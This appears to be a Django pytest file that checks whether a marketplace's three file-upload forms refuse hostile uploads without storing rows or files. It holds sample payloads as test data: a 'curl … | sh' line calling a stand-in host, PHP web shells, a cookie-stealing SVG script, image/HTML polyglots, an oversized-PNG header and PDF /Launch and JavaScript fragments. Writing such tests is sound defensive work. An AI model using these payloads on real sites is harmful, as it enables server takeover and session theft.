"""Upload attacks through the real forms: refused with a message, nothing stored.

Each hostile file goes through the three forms that take a file: the product
photos of the catalog dashboard, the proof of transfer on the order page and the
POSDAYA profile photo. A refusal must leave no new row and no file under
MEDIA_ROOT or PRIVATE_MEDIA_ROOT.
"""

import io
import os
import secrets
import struct
import zlib
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from orders.models import PaymentProof
from orders.services import place_order
from posdaya.models import Posdaya

from ..conftest import client_for
from ..factories import CategoryFactory, ProductFactory

pytestmark = pytest.mark.django_db


def image_bytes(fmt="PNG", size=(48, 32)):
    buffer = io.BytesIO()
    Image.new("RGB", size, (20, 120, 60)).save(buffer, format=fmt)
    return buffer.getvalue()


def declared_size_png(width, height):
    """A small valid PNG whose IHDR claims another size (CRC fixed up)."""
    data = bytearray(image_bytes("PNG", size=(8, 8)))
    ihdr = data.index(b"IHDR")
    data[ihdr + 4 : ihdr + 12] = struct.pack(">II", width, height)
    crc = zlib.crc32(bytes(data[ihdr : ihdr + 17]))
    data[ihdr + 17 : ihdr + 21] = struct.pack(">I", crc)
    return bytes(data)


SCRIPT = b"<script>fetch('/dasbor/induk/staf/',{method:'POST'})</script>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" '
    b'height="10"><script>alert(document.cookie)</script>'
    b'<rect width="10" height="10"/></svg>'
)

# name -> (file name, bytes, content type, what the message says)
NOT_A_PHOTO = "bukan foto yang bisa dibaca"
HIDDEN = "berisi kode tersembunyi"
UNSUPPORTED = "Format foto tidak didukung"
TOO_BIG = "terlalu besar"
ATTACKS = {
    "script-renamed-jpg": (
        "foto.jpg",
        b"#!/bin/sh\ncurl http://jahat.example/x | sh\n" * 5,
        "image/jpeg",
        NOT_A_PHOTO,
    ),
    "php-renamed-jpg": (
        "foto.jpg",
        b"<?php system($_GET['c']); ?>",
        "image/jpeg",
        NOT_A_PHOTO,
    ),
    "svg-with-script": ("logo.svg", SVG, "image/svg+xml", NOT_A_PHOTO),
    "svg-renamed-png": ("logo.png", SVG, "image/png", NOT_A_PHOTO),
    "gif-header-then-html": (
        "gambar.jpg",
        b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=0;" + SCRIPT,
        "image/jpeg",
        NOT_A_PHOTO,
    ),
    "valid-gif-then-html": (
        "gambar.gif",
        image_bytes("GIF") + b"<html><body>" + SCRIPT,
        "image/gif",
        UNSUPPORTED,
    ),
    "jpeg-header-then-html": (
        "gambar.jpg",
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"<html>" + SCRIPT,
        "image/jpeg",
        NOT_A_PHOTO,
    ),
    "valid-jpeg-then-html": (
        "gambar.jpg",
        image_bytes("JPEG") + b"<html><body>" + SCRIPT + b"</body></html>",
        "image/jpeg",
        HIDDEN,
    ),
    "valid-png-then-php": (
        "gambar.png",
        image_bytes("PNG") + b"<?php echo shell_exec($_GET['c']); ?>",
        "image/png",
        HIDDEN,
    ),
    "png-declaring-100000x100000": (
        "besar.png",
        declared_size_png(100_000, 100_000),
        "image/png",
        TOO_BIG,
    ),
}


def files_under(*roots):
    found = set()
    for root in roots:
        for folder, _dirs, names in os.walk(root):
            found.update(Path(folder, name) for name in names)
    return found


def row_counts():
    """Rows of every model but sessions (signing in writes one)."""
    return {
        model._meta.label: model.objects.count()
        for model in apps.get_models()
        if model._meta.label != "sessions.Session"
    }


@pytest.fixture
def storage_state():
    """Take the row counts and the stored files; compare after the attack."""

    def snapshot():
        return row_counts(), files_under(
            settings.MEDIA_ROOT, settings.PRIVATE_MEDIA_ROOT
        )

    return snapshot


@pytest.fixture
def product(posdaya):
    return ProductFactory(posdaya=posdaya, name="Tas Kopi", price=25000, stock=5)


@pytest.fixture
def order(product):
    return place_order(
        quantities={product.pk: 1},
        customer=None,
        name="Budi",
        phone="6281298765432",
        email="",
        delivery_method="ambil",
        address="",
        zone=None,
        payment_method="transfer",
        checkout_token=secrets.token_urlsafe(24),
    ).order


def attack(key):
    name, data, content_type, _message = ATTACKS[key]
    return SimpleUploadedFile(name, data, content_type=content_type)


@pytest.mark.parametrize("key", ATTACKS)
def test_product_create_refuses(key, pengelola, storage_state):
    category = CategoryFactory(name="Tas", slug="tas")
    before = storage_state()
    response = client_for(pengelola).post(
        "/dasbor/bahagia/produk/baru/",
        {
            "product-name": "Tas Jahat",
            "product-category": category.pk,
            "product-price": "35000",
            "product-weight_grams": "300",
            "product-description": "Uji.",
            "product-stock": "4",
            "product-publish": "on",
            "bahan-TOTAL_FORMS": "0",
            "bahan-INITIAL_FORMS": "0",
            "bahan-MIN_NUM_FORMS": "0",
            "bahan-MAX_NUM_FORMS": "10",
            "product-images": [attack(key)],
        },
    )
    assert response.status_code == 200
    assert ATTACKS[key][3] in response.content.decode()
    assert storage_state() == before


@pytest.mark.parametrize("key", ATTACKS)
def test_product_photo_upload_refuses(key, pengelola, product, storage_state):
    before = storage_state()
    response = client_for(pengelola).post(
        f"/dasbor/bahagia/produk/{product.pk}/foto/", {"images": attack(key)}
    )
    assert response.status_code == 200
    assert ATTACKS[key][3] in response.content.decode()
    assert storage_state() == before


@pytest.mark.parametrize("key", ATTACKS)
def test_proof_of_transfer_refuses(key, client, order, storage_state):
    before = storage_state()
    response = client.post(
        f"/pesanan/{order.code}/bukti/",
        {"t": order.secret, "file": attack(key)},
        follow=True,
    )
    assert response.status_code == 200
    assert ATTACKS[key][3] in response.content.decode()
    assert storage_state() == before
    assert PaymentProof.objects.count() == 0


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"%PDF-1.4\n<html><body>" + SCRIPT + b"</body></html>\n%%EOF\n", HIDDEN),
        # Fragments, not documents: the parser refuses them (real documents with
        # JavaScript or /Launch: tests/pasar/test_pdf_proofs.py).
        (
            b"%PDF-1.4\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF\n",
            "rusak atau tidak bisa dibaca",
        ),
        (
            b"%PDF-1.4\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n%%EOF\n",
            "rusak atau tidak bisa dibaca",
        ),
    ],
    ids=["pdf-with-html", "pdf-with-javascript", "pdf-with-launch"],
)
def test_proof_pdf_with_active_content_is_refused(
    data, message, client, order, storage_state
):
    before = storage_state()
    response = client.post(
        f"/pesanan/{order.code}/bukti/",
        {"t": order.secret, "file": SimpleUploadedFile("bukti.pdf", data)},
        follow=True,
    )
    assert message in response.content.decode()
    assert storage_state() == before


@pytest.mark.parametrize("key", ATTACKS)
def test_posdaya_photo_refuses(key, posdaya, pengelola, storage_state):
    before = storage_state()
    response = client_for(pengelola).post(
        "/dasbor/bahagia/profil/",
        {
            "name": "POSDAYA Bahagia Jaya",
            "rw": "07",
            "address": "Jl. Melati",
            "profile": "",
            "whatsapp": "081311112222",
            "weighing_days": ["5"],
            "photo": attack(key),
        },
    )
    assert response.status_code == 200
    assert ATTACKS[key][3] in response.content.decode()
    assert storage_state() == before
    assert Posdaya.objects.get(pk=posdaya.pk).name == "POSDAYA Bahagia"


def test_camera_trailer_is_accepted_and_the_stored_copy_is_clean(
    client, order, pengelola, product
):
    """Binary data after the image (motion photos do this) passes, re-encoded away."""
    trailer = b"MotionPhoto_Data" + bytes(range(256)) * 4
    photo = image_bytes("JPEG", size=(300, 200)) + trailer
    response = client.post(
        f"/pesanan/{order.code}/bukti/",
        {"t": order.secret, "file": SimpleUploadedFile("b.jpg", photo)},
    )
    assert response.status_code == 302
    stored = PaymentProof.objects.get().file.read()
    assert stored.startswith(b"RIFF") and stored[8:12] == b"WEBP"
    assert trailer not in stored
    assert struct.unpack("<I", stored[4:8])[0] + 8 == len(stored)

    client_for(pengelola).post(
        f"/dasbor/bahagia/produk/{product.pk}/foto/",
        {"images": SimpleUploadedFile("p.jpg", photo)},
    )
    image = product.images.get()
    for field in (image.original, image.large, image.small):
        data = field.read()
        assert data[8:12] == b"WEBP"
        assert b"MotionPhoto" not in data
        assert struct.unpack("<I", data[4:8])[0] + 8 == len(data)
